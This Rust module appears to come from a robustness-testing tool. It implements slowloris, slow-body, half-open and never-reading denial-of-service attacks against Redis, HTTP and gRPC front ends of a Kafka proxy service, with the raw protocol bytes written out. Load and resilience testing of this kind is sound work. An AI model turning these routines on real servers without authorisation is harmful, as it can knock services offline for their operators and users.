//! Attacks by the number of connections and by slowness.

use super::crowd::Script;
use super::ear::Speech;
use super::frames::{self, PREFACE};
use super::{FrontEnd, Strike};
use std::io;

/// So many connections suffice where each of them fills all buffers between it and the server.
const READERS: usize = 100;

fn speech(front_end: FrontEnd) -> Speech {
    match front_end {
        FrontEnd::Redis => Speech::Redis,
        FrontEnd::Http => Speech::Http1,
        FrontEnd::Grpc => Speech::Http2,
    }
}

pub(super) fn half_open(strike: &mut Strike<'_>, front_end: FrontEnd) -> io::Result<()> {
    let script = Script::new(speech(front_end), *b"");
    crowd(strike, front_end, &script)
}

pub(super) fn slow_loris(strike: &mut Strike<'_>, front_end: FrontEnd) -> io::Result<()> {
    let head: &[u8] = match front_end {
        FrontEnd::Redis => b"*2\r\n$4\r\nECHO\r\n$10000\r\n",
        FrontEnd::Http => b"GET /_ping HTTP/1.1\r\nHost: x\r\nX-Long: ",
        // Not even the preface ends.
        FrontEnd::Grpc => b"",
    };
    let script = Script::new(speech(front_end), head);
    let script = match front_end {
        FrontEnd::Grpc => {
            let text = [PREFACE, &frames::ping().repeat(1_000)].concat();
            script.spell(text, strike.size.pause)
        }
        _ => script.drip(*b"x", strike.size.pause),
    };
    crowd(strike, front_end, &script)
}

pub(super) fn slow_bodies(strike: &mut Strike<'_>, front_end: FrontEnd) -> io::Result<()> {
    let topic = &strike.target.topic;
    let (head, unit) = match front_end {
        FrontEnd::Redis => {
            let key = format!("topics:{topic}");
            let head = format!(
                "*3\r\n$6\r\nRPUSHX\r\n${}\r\n{key}\r\n$1000000\r\n",
                key.len()
            );
            (head.into_bytes(), b"x".to_vec())
        }
        FrontEnd::Http => {
            let head = format!(
                "POST /v1/topics/{topic}/records HTTP/1.1\r\nHost: x\r\n\
                 Content-Type: text/plain\r\nContent-Length: 900000\r\n\r\n"
            );
            (head.into_bytes(), b"x".to_vec())
        }
        FrontEnd::Grpc => {
            let head = [
                PREFACE,
                &frames::headers(1, &frames::call("/KafkaPixy/Produce"), false),
                &frames::data(1, &frames::prefix(false, 1_000_000), false),
            ];
            (head.concat(), frames::data(1, b"x", false))
        }
    };
    let script = Script::new(speech(front_end), head).drip(unit, strike.size.pause);
    crowd(strike, front_end, &script)
}

pub(super) fn never_reading(strike: &mut Strike<'_>, front_end: FrontEnd) -> io::Result<()> {
    let script = match front_end {
        FrontEnd::Redis => Script::new(Speech::Redis, *b"")
            .repeat(*b"COMMAND\r\n", u64::MAX)
            .deaf(),
        FrontEnd::Http => Script::new(Speech::Http1, *b"")
            .repeat(
                *b"GET /v1/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n",
                u64::MAX,
            )
            .deaf(),
        FrontEnd::Grpc => {
            // No stream may be sent anything; pings are answered all the same.
            let head = [PREFACE, &frames::setting(0x4, 0)].concat();
            Script::new(Speech::Http2, head).make(check_health, 9_000)
        }
    };
    let connections = (strike.size.connections / 10).min(READERS);
    strike.crowd(front_end, std::iter::repeat_n(script, connections))
}

/// The call of each turn, on a stream of its own.
fn check_health(turn: u64) -> Vec<u8> {
    let stream = u32::try_from(turn * 2 + 1).unwrap_or(1);
    [
        frames::headers(stream, &frames::call("/grpc.health.v1.Health/Check"), false),
        frames::data(stream, &frames::prefix(false, 0), true),
    ]
    .concat()
}

fn crowd(strike: &mut Strike<'_>, front_end: FrontEnd, script: &Script) -> io::Result<()> {
    let connections = strike.size.connections;
    strike.crowd(front_end, std::iter::repeat_n(script.clone(), connections))
}
